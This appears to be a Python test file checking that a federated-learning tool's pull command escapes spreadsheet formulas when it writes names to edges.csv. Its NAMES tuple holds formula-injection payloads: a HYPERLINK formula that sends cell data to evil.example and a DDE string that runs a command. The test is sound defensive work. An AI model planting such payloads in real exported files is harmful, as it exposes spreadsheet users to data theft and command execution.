"""Names from outside that a spreadsheet would run, and what `pull` writes of them."""

import csv
from pathlib import Path

from hyperfed.cli.client.pull import _save
from hyperfed.tables.vocabulary import Vocabulary
from hyperfed.testing.federation import SmallFederation

NAMES = (
    '=HYPERLINK("https://evil.example/?x="&A2,"load")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1",
    "-1",
)


def _cells(names: tuple[str, ...], folder: Path) -> list[list[str]]:
    fed = SmallFederation(vocabulary=Vocabulary.of(*names))
    fed.play(1)
    model = fed.session("site-01").pull(now=fed.night(1))
    _save(model.value, model.digest, folder)
    with (folder / "edges.csv").open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_no_cell_of_edges_csv_is_a_formula(tmp_path: Path) -> None:
    _, *rows = _cells(NAMES, tmp_path)
    assert rows
    names = {cell for row in rows for cell in row[:2]}
    assert names <= {f"'{name}" for name in NAMES}


def test_an_ordinary_name_and_a_negative_number_stay_as_they_are(tmp_path: Path) -> None:
    head, *rows = _cells(("output", "heat", "load", "rain-1"), tmp_path)
    assert {cell for row in rows for cell in row[:2]} <= {"output", "heat", "load", "rain-1"}
    for row in rows:
        float(row[head.index("effect")])
